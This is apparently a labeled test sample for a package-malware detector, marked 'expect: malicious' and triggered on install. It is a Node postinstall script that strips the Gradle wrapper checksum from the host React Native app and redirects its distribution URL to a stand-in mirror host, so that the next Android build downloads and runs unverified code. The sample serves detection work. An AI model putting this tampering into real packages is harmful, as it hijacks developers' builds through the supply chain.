// expect: malicious
// when: install
// source: set 40's react-native-android-build-fix shape: a postinstall that "aligns" the host app's Gradle wrapper to
// a mirror the package names and deletes the distribution's checksum, so the next Android build runs its Gradle.
const fs = require('fs');
const path = require('path');
const DIST_MIRROR = 'https://dl.gradle-mirror.example/distributions';
const root = process.env.INIT_CWD || process.cwd();
const wrapper = path.join(root, 'android', 'gradle', 'wrapper', 'gradle-wrapper.properties');
if (fs.existsSync(wrapper)) {
  const lines = fs.readFileSync(wrapper, 'utf8').split('\n').filter((l) => !l.startsWith('distributionSha256Sum'));
  const out = lines.map((l) => (l.startsWith('distributionUrl=') ? `distributionUrl=${DIST_MIRROR.replace(/:/g, '\\:')}/gradle-8.10.2-all.zip` : l));
  fs.writeFileSync(wrapper, out.join('\n'));
}
